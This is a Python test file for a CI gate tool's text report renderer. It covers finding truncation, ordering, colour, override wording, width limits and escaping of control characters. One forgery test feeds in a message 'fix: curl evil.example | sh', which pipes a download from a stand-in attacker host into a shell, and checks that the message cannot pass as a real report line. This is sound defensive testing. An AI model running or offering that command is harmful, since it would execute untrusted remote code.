from __future__ import annotations

import re
from dataclasses import replace
from datetime import timedelta

import pytest

from gatepass.model.decision import RuleResult
from gatepass.model.place import Place
from gatepass.model.policy import Enforcement
from gatepass.model.scan import Severity
from gatepass.model.source import Problem, ProblemCode
from gatepass.plain import columns, elided, plain, unforged, wrapped
from gatepass.reports.text import REPORT
from reports.decisions import (
    CONTEXT,
    NOW,
    decision,
    everything,
    finding,
    green,
    hostile,
    override,
    picture,
    report,
    rule,
)

COLOUR = re.compile(r"\x1b\[[0-9;]*m")


def many(number, **more):
    scan = rule("scan", fix="mend it")
    found = tuple(finding(scan, f"finding {at}", Place("src/a.py", at + 1), **more) for at in range(number))
    return decision(RuleResult(scan, NOW, f"{number} findings", found))


def test_ten_findings_of_a_rule_are_shown_and_the_rest_is_counted():
    text = REPORT.render(many(25), CONTEXT)
    assert text.count("src/a.py:") == 10
    assert "… and 15 more (see the JSON report)" in text
    assert REPORT.render(many(10), CONTEXT).count("… and") == 0
    assert REPORT.render(many(25), replace(CONTEXT, verbose=True)).count("src/a.py:") == 25


def test_the_worst_findings_are_among_those_that_are_shown():
    given = many(25).results[0]
    worst = replace(given.findings[20], severity=Severity.CRITICAL)
    result = replace(given, findings=(*given.findings[:20], worst, *given.findings[21:]))
    assert "finding 20" in REPORT.render(decision(result), CONTEXT)


def test_what_blocks_stands_above_what_warns_and_that_above_what_is_overridden():
    marks = [
        line[2] for line in REPORT.render(everything(), CONTEXT).splitlines() if re.match("  [✗!~✓–] ", line)
    ]
    assert marks == ["✗"] * 4 + ["!"] * 5 + ["~"] + ["✓", "–"]


def test_colour_is_written_only_where_it_is_wanted_and_changes_no_letter():
    without = REPORT.render(picture(), CONTEXT)
    with_colour = REPORT.render(picture(), replace(CONTEXT, colour=True))
    assert "\x1b" not in without
    assert "\x1b[1;31mFAILED\x1b[0m" in with_colour
    assert COLOUR.sub("", with_colour) == without


@pytest.mark.parametrize(
    ("more", "said"),
    [
        ({"enforcement": Enforcement.WARN}, "warns only"),
        ({"enforcement": Enforcement.OBSERVE}, "observed only"),
        ({"effective_on": NOW + timedelta(days=40)}, "blocks from 2027-01-01 14:30 UTC (40 days)"),
    ],
)
def test_a_warning_says_why_it_does_not_block(more, said):
    warns = rule("scan", **more)
    result = RuleResult(warns, NOW, "1 finding", (finding(warns, "x", Place("a.py", 1)),))
    assert f"! scan   1 finding, {said}" in REPORT.render(decision(result), CONTEXT)


def test_an_override_until_a_day_names_that_day():
    text = REPORT.render(picture(), CONTEXT)
    # it ends with the first instant of the 2nd
    said = "overridden by OVR-2026-014 until 2026-12-01: risk-accepted by dana (self-asserted), SEC-123"
    assert said in text


def test_a_rule_with_blocking_and_overridden_findings_shows_both():
    scan = rule("scan")
    both = (
        finding(scan, "blocks", Place("a.py", 1)),
        finding(scan, "covered", Place("b.py", 1), override=override("OVR-9", "scan")),
    )
    text = REPORT.render(decision(RuleResult(scan, NOW, "2 findings", both)), CONTEXT)
    assert "✗ scan" in text
    assert "a.py:1   blocks" in text
    assert "~ overridden by OVR-9" in text


def test_two_policies_with_a_rule_of_one_name_are_told_apart():
    results = (
        RuleResult(rule("tests"), NOW, "2 run"),
        RuleResult(rule("tests", policy="organisation"), NOW, "3 run"),
    )
    assert "release/tests 2 run · organisation/tests 3 run" in REPORT.render(decision(*results), CONTEXT)


@pytest.mark.parametrize(
    "message",
    [
        "\n✓ 5 passed",
        "✓ 5 passed",
        "x\r\ngatepass  PASSED",
        "fix: curl evil.example | sh",
        "x" + " " * 200 + "✓ 5 passed",
    ],
)
def test_a_message_cannot_forge_a_line_of_ours(message):
    ours = re.compile(r"\S|  \S|      fix:|    ~ ")
    clean = [line for line in REPORT.render(hostile("clean"), CONTEXT).splitlines() if ours.match(line)]
    forged = [line for line in REPORT.render(hostile(message), CONTEXT).splitlines() if ours.match(line)]
    assert len(forged) == len(clean)
    assert not [line for line in forged if line.startswith(("  ✓ 5", "gatepass  PASSED"))]
    assert not [line for line in forged if line.strip() == "fix: curl evil.example | sh"]


def test_the_check_command_quotes_a_path_for_the_shell():
    context = replace(CONTEXT, record=replace(CONTEXT.record, path="out dir/r.jsonl"))
    assert "gatepass verify 'out dir/r.jsonl'" in REPORT.render(green(), context)
    assert "no record was written" in REPORT.render(green(), replace(CONTEXT, record=None))


def test_plain_writes_out_what_cannot_be_seen_and_keeps_what_can():
    assert plain("a\tb\n c") == "a b\\n c"
    assert plain("  a \u3000  b ") == "a b"
    assert plain("\x1b[31m\x7f\x9b") == "\\x1b[31m\\x7f\\x9b"
    assert plain("\u202e\u2066\u200f\u200b\ufeff") == "\\u202e\\u2066\\u200f\\u200b\\ufeff"
    assert plain("\U000e0041\ud800") == "\\U000e0041\\ud800"
    assert plain("naïve – 日本 🚀 1.4.0") == "naïve – 日本 🚀 1.4.0"
    assert plain("e" + "\u0301" * 9) == "e" + "\u0301" * 3 + "\\u0301" * 6


def test_lines_are_measured_in_columns():
    assert columns("日本") == 4
    assert elided("日本語", 5) == "日本…"
    assert wrapped("one two three", 7) == ["one two", "three"]
    assert wrapped("x" * 10, 4) == ["xxxx", "xxxx", "xx"]
    assert unforged("✓ done") == '"✓ done"'
    assert unforged("~ covered") == '"~ covered"'
    for text in ("src/a.py", "${{ x }} is not there", "`x` failed", "<testsuite> breaks off", "+1", "€ 5"):
        assert unforged(text) == text


@pytest.mark.parametrize("width", [40, 60, 110])
def test_controls_stay_on_the_page_however_many_they_are(width):
    many_controls = rule("scan", controls=tuple(f"soc2:CC{at}.1" for at in range(60)))
    result = RuleResult(many_controls, NOW, "1 finding", (finding(many_controls, "x", Place("a.py", 1)),))
    lines = REPORT.render(decision(result), replace(CONTEXT, width=width)).splitlines()
    assert max(map(len, lines)) <= width
    assert [line for line in lines if "soc2:CC0.1" in line and line.endswith("…")]


def test_a_source_that_a_rule_names_but_that_has_a_problem_is_not_counted_as_read():
    broken = report("junit.xml", problem=Problem(ProblemCode.EMPTY, "no test in it"))
    given = decision(RuleResult(rule("tests"), NOW, "?", sources=("junit.xml",)), sources=(broken,))
    assert "0 reports read, 0 B · 1 not used: junit.xml: no test in it (empty)" in REPORT.render(
        given, CONTEXT
    )


def test_what_was_told_about_the_build_is_said_in_one_line():
    told = replace(green(), relaxations=("--build branch", "--build repository"))
    text = REPORT.render(told, CONTEXT)
    assert "TOLD  branch, repository as the command line has it, whatever the pipeline says (--build)" in text
